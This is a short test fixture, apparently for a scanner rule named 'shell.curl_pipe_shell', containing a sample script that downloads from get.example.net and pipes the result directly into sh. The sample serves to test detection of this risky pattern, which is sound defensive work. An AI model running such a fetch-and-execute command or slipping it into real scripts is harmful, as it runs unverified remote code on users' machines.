# expect: shell.curl_pipe_shell critical
# path: scripts/j.sh
#!/bin/sh
curl -s https://get.example.net/x \
  | sh
